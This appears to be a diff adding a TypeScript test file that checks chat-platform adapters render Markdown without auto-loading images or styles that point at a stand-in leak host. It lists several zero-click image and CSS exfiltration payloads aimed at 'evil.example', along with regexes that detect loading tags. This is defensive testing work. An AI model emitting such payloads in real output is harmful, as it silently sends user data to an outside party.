@@ -1,0 +1,58 @@
+/** What an answer could carry away without a click: on every channel there is, an image is words, and words on a page say where they lead. */
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { loadAdapters } from "../../src/plugins/index.ts";
+
+const NAMES = ["web", "slack", "discord", "terminal", "webhook"];
+const adapters = await loadAdapters(join(import.meta.dirname, "../../adapters"), NAMES);
+const LEAK = "https://evil.example/p.png?leak=4711";
+
+const TAG = /(?<!\\)<(?:img|image|picture|video|iframe|object|embed|link|style|svg)\b/i;
+const STYLED = /(?<!\\)<[^>]*\sstyle\s*=/i;
+const IMAGE = /(?<!\\)!\[[^\]]*\]\(/;
+/** A terminal and a program get text, in which a tag is words; what a program makes of Markdown is its own. */
+const LOADING: Readonly<Record<string, readonly RegExp[]>> = {
+  web: [TAG, STYLED, IMAGE],
+  slack: [TAG, STYLED, IMAGE],
+  discord: [TAG, STYLED, IMAGE],
+  terminal: [IMAGE],
+  webhook: [],
+};
+
+const PIXELS: readonly (readonly [what: string, markdown: string])[] = [
+  ["an image", `![pixel](${LEAK})`],
+  ["an image by reference", `![pixel][p]\n\n[p]: ${LEAK}`],
+  ["an image in a link", `[![pixel](${LEAK})](${LEAK})`],
+  ["an image in a table", `| a |\n|---|\n| ![pixel](${LEAK}) |`],
+  ["an image in HTML", `<img src="${LEAK}">`],
+  ["an image over two lines", `![pixel\nof mine](${LEAK})`],
+  ["an image behind a text that is split", `${"a word ".repeat(1_200)}\n\n![pixel](${LEAK})`],
+  ["a style that loads", `<div style="background:url(${LEAK})">x</div>`],
+];
+
+test("all channels are tried", () => {
+  expect(adapters.map(({ platform }) => platform).toSorted()).toEqual(NAMES.toSorted());
+});
+
+test.each(
+  adapters.flatMap((adapter) =>
+    PIXELS.map(([what, markdown]) => ({ name: adapter.platform, adapter, what, markdown })),
+  ),
+)("S21: on $name $what loads nothing by itself", ({ name, adapter, markdown }) => {
+  const bodies = adapter.render(markdown).map(({ body }) => body);
+  const shown = bodies.join("\n");
+  expect(LOADING[name]?.flatMap((pattern) => pattern.exec(shown) ?? [])).toEqual([]);
+  expect(JSON.stringify(adapter.render(markdown))).not.toMatch(/"type":\s*"image"|image_url/);
+});
+
+test.each(adapters.map((adapter) => ({ name: adapter.platform, adapter })))(
+  "S21 twin: on $name a link stays one, with all of its address",
+  ({ adapter }) => {
+    const shown = adapter
+      .render("See [the report](https://reports.example/a_b?q=1), it is new.")
+      .map(({ body }) => body)
+      .join("\n");
+    expect(shown).toContain("https://reports.example/a_b?q=1");
+    expect(shown).toContain("the report");
+  },
+);
